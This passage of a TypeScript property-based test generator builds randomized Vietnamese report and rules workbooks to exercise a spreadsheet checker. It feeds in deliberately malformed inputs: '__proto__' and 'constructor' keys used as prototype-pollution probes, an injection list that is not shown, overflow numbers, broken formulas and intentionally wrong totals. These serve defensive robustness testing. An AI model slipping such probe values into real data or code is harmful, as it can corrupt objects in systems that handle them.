      if (i < sections.length && sections[i] === sections[start]) continue;
      put(sheet, top, firstInd + start, { value: sections[start] || 'Chỉ tiêu' });
      if (i - 1 > start) sheet.merges.push({ top, left: firstInd + start, bottom: top, right: firstInd + i - 1 });
      start = i;
    }
  }
  row = bottom + 1;
  const sums = spec.columns.map(() => 0);
  spec.rows.forEach((r, n) => {
    if (sttCol !== null) put(sheet, row, sttCol, { value: n + 1 });
    put(sheet, row, unitCol, { value: unitName(r.unit, rules) });
    spec.columns.forEach((_, i) => {
      const cell = r.values.length ? r.values[i % r.values.length] : null;
      put(sheet, row, firstInd + i, cell);
      if (cell && typeof cell.value === 'number' && Number.isFinite(cell.value)) sums[i] += cell.value;
    });
    row++;
  });
  if (spec.total) {
    const t = spec.total;
    put(sheet, row, unitCol, { value: TOTAL_WORDS[t.word] });
    spec.columns.forEach((_, i) => {
      if (t.mode === 'any') put(sheet, row, firstInd + i, t.cell);
      else put(sheet, row, firstInd + i, { value: sums[i] + (t.mode === 'off-by' && i === 0 ? t.delta : 0), formula: `SUM(A1:A${row - 1})` });
    });
    row++;
  }
  if (spec.signature) put(sheet, row + 1, spec.startCol, { value: 'NGƯỜI LẬP BIỂU' });
  sheet.merges.push(...spec.extraMerges.map(toRange));
  return sheet;
}

export function buildJunkSheet(spec: JunkSheetSpec, rules: Rules): Sheet {
  const sheet = newSheet(nameOf(spec.name, rules));
  for (const c of spec.cells) put(sheet, c.row, c.col, c.cell);
  sheet.merges.push(...spec.merges.map(toRange));
  sheet.hiddenRows.push(...spec.hiddenRows);
  sheet.hiddenCols.push(...spec.hiddenCols);
  return sheet;
}

export function buildSheet(spec: SheetSpec, rules: Rules): Sheet {
  if (spec.layout === 'indicator-per-row') return buildIndicatorSheet(spec, rules);
  if (spec.layout === 'unit-per-row') return buildUnitSheet(spec, rules);
  return buildJunkSheet(spec, rules);
}

/** The workbooks of a spec; file names are made unique by a leading number, as on a disk. */
export function buildReports(spec: ReportsSpec, rules: Rules): WorkbookModel[] {
  return spec.workbooks.map((w, i) => ({
    name: `${String(i + 1).padStart(2, '0')} ${typeof w.file === 'string' ? w.file : unitName(w.file, rules)}.xlsx`,
    sheets: w.sheets.map((s) => buildSheet(s, rules)),
  }));
}

// ---------------------------------------------------------------------------------------------
// Rules workbooks

/** Codes the generated rules and their formulas share, so formulas often name real codes. */
export const CODE_POOL = ['SO_HO', 'GDVH_DK', 'TL_GDVH', 'HND_HV', 'HND_KN', 'HND_DT', 'CCB_HV', 'A', 'B_1', 'x', ...PROTO_WORDS.filter((w) => /^[A-Za-z_]/.test(w))];

const CONDITIONS = [
  '≥ 95%',
  '>= 90%',
  'từ 200 hội viên trở lên',
  '200 trở lên',
  'ít nhất 2',
  'tối thiểu 3 mô hình',
  'không dưới 5',
  'đạt 70%',
  '200',
  '75%',
  '> 10',
  'trên 75%',
  'hơn 3',
  '< 5',
  'dưới 2',
  '≤ 3',
  'không quá 10',
  'tối đa 1',
  '80-100',
  '80 – 100',
  'từ 1 đến 2',
  'từ 01 đến 02 cuộc',
  'từ 80-100 hội viên mới',
  'không có',
  '= 0',
  'ít nhất 01 lần/tháng',
  '2 cuộc/quý',
  '1 lần/năm',
  '2,5 đến 3%',
  'giảm 2,5 đến 3% trở lên',
  '90% trở lên',
  '1.000 đoàn viên trở lên',
  '11.963/12.011',
  '100%',
  '0',
  '0,5',
  '1e308',
  '99999999999999999999999',
  '1' + '0'.repeat(400),
  'từ 100 đến 1',
  'khoảng 40',
  'theo kế hoạch',
  '',
  ...PROTO_WORDS,
  ...INJECTIONS,
];
const SECTIONS = ['Hội Nông dân', 'Hội Cựu chiến binh', 'Mặt trận Tổ quốc', 'Hội Liên hiệp Phụ nữ', 'Đoàn Thanh niên', 'Phong trào "Dân vận khéo"', '', '__proto__', 'constructor', 'Hội Nông dân'.normalize('NFD')];
const NAMES = [
  'Tổng số hội viên',
  'Kết nạp hội viên mới',
  'Tổng số hộ gia đình',
  'Số hộ đăng ký gia đình văn hóa',
  'Tỷ lệ hộ đăng ký gia đình văn hóa',
  'Mô hình mới',
  'Số cuộc đối thoại',
  'Số cuộc giám sát',
  'Nhà đại đoàn kết xây dựng mới',
  'Tổng số',
  'Trong đó:',
  'I. HỘI NÔNG DÂN',
  '',
  'Tổng cộng',
  LONG_TEXT,
  ...PROTO_WORDS,
  ...INJECTIONS,
];
const RULE_UOMS = ['người', 'hộ', '%', 'mô hình', 'cuộc', 'lần', 'nhà', 'khu', 'cơ sở', '', 'Tỷ lệ', 'phần trăm', 'đồng', '__proto__'];
const SCOPES = ['Toàn địa bàn', 'Toàn thị xã', 'Mỗi đơn vị', 'Mỗi phường', 'Mỗi xã', 'Mỗi thị trấn', 'Từng cơ sở', '', 'Toàn', 'chung', 'Mỗi', 'Mỗi __proto__', 'Mỗi constructor', 'linh tinh'];
const SEVERITIES = ['Lỗi', 'Cảnh báo', 'Thông tin', '', 'error', 'Nghiêm trọng', 'linh tinh', '__proto__'];
const ROSTER_NAMES = [
  'Phường Hòa Lạc',
  'Phường Tân Thành',
  'Phường Đồng Tâm',
  'Xã Yên Bình',
  'Phường Yên Bình',
  'Xã Phú Thịnh',
  'Thị trấn Hòa Bình',
  'Phường Hòa Bình',
  'Xã Thanh Sơn'.normalize('NFD'),
  'Hòa Lạc',
  'P. Hòa Lạc',
  'Xã A',
  'Xã',
  '',
  ...PROTO_WORDS,
  ...INJECTIONS,
];
const LEVELS = ['Phường', 'Xã', 'Thị trấn', '', 'Thôn', '__proto__'];

/** A formula over the code pool: sometimes well formed, sometimes not at all. */
const formulaArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constant('') },
  {
    weight: 3,
    arbitrary: fc.letrec<{ e: string }>((tie) => ({
      e: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        fc.constantFrom(...CODE_POOL),
        fc.constantFrom('0', '1', '100', '2,5', '99999999999999999999999', '0.0001'),
        fc.tuple(tie('e'), fc.constantFrom('+', '-', '*', '/', ' / ', '×', '÷'), tie('e')).map(([a, op, b]) => `${a}${op}${b}`),
        tie('e').map((a) => `(${a})`),
        tie('e').map((a) => `-${a}`),
      ),
    })).e,
  },
  { weight: 1, arbitrary: fc.constantFrom('GDVH_DK / SO_HO', '(HND_HV - HND_KN) / HND_HV', 'A / A', 'SO_HO >= 1', '((', 'SO_HO /', '1/0', '=SUM(A1)', 'A B', '') },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
);

const checkArb: fc.Arbitrary<ModelRow> = fc.tuple(
  fc.oneof(fc.constantFrom('K1', 'K2', 'K1', '', ...PROTO_WORDS), fc.string({ maxLength: 5 })),
  fc.oneof(
    fc.tuple(formulaArb, fc.constantFrom('=', '<=', '>=', '<>', '<', '>', '≤', '≥', '=='), formulaArb).map(([a, op, b]) => `${a} ${op} ${b}`),
    fc.constantFrom('GDVH_DK <= SO_HO', 'HND_HV = HND_KN + 1', 'SO_HO', 'A = B = C', ''),
    formulaArb,
  ),
  fc.constantFrom(...SEVERITIES),
  fc.constantFrom('', 'Ghi chú', ...INJECTIONS),
);

export interface RulesSpec {
  title: string | null;
  rows: ModelRow[];
  checks: ModelRow[] | null;
  roster: ModelRow[] | null;
}

const codeArb: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...CODE_POOL) },
  { weight: 2, arbitrary: fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.]{0,10}$/) },
  { weight: 1, arbitrary: fc.constantFrom('1ABC', 'Mã có dấu', 'A-B', 'a'.repeat(70), '', '  ', 'x y', '__proto__', 'constructor', 'hasOwnProperty') },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.constant(null)) },
);

const ruleRowArb: fc.Arbitrary<ModelRow> = fc.tuple(
  codeArb,
  fc.constantFrom(...SECTIONS),
  fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...NAMES) }, { weight: 1, arbitrary: fc.string({ maxLength: 30 }) }),
  fc.oneof(fc.constant(''), fc.constantFrom('Số hội viên kết nạp mới', 'Đối tượng tập hợp;Tổng số', ';;', 'Tổng số hội viên;Tổng số hội viên', '__proto__;constructor', ...INJECTIONS)),
  fc.constantFrom(...RULE_UOMS),
  fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...CONDITIONS) }, { weight: 1, arbitrary: fc.string({ maxLength: 20 }) }, { weight: 1, arbitrary: fc.oneof(fc.integer({ min: -5, max: 500 }), fc.constantFrom(NaN, Infinity, 1e300, 0.95)) }),
  fc.constantFrom(...SCOPES),
  fc.constantFrom(...SEVERITIES),
  formulaArb,
);

export const rulesSpecArb: fc.Arbitrary<RulesSpec> = fc.record({
  title: fc.option(fc.constantFrom('CHỈ TIÊU NĂM 2023', 'CHỈ TIÊU 6 THÁNG ĐẦU NĂM 2024', 'Chỉ tiêu quý II năm 2023', 'KẾ HOẠCH', '', '__proto__'), { nil: null }),
  rows: fc.array(ruleRowArb, { maxLength: 14 }),
  checks: fc.option(fc.array(checkArb, { maxLength: 5 }), { nil: null }),
  roster: fc.option(
    fc.array(
      fc.tuple(fc.constantFrom(...ROSTER_NAMES), fc.constantFrom('', 'P. Hòa Lạc', 'Hòa Lạc;Hoa Lac', '__proto__', ';'), fc.constantFrom(...LEVELS)).map((r): ModelRow => r),
      { maxLength: 8 },
    ),
    { nil: null },
  ),
});

export function buildRules(spec: RulesSpec): WorkbookModel {
  return rulesModel(spec.rows, {
    ...(spec.title !== null ? { title: spec.title } : {}),
    ...(spec.checks ? { checks: spec.checks } : {}),
    ...(spec.roster ? { roster: spec.roster } : {}),
  });
}
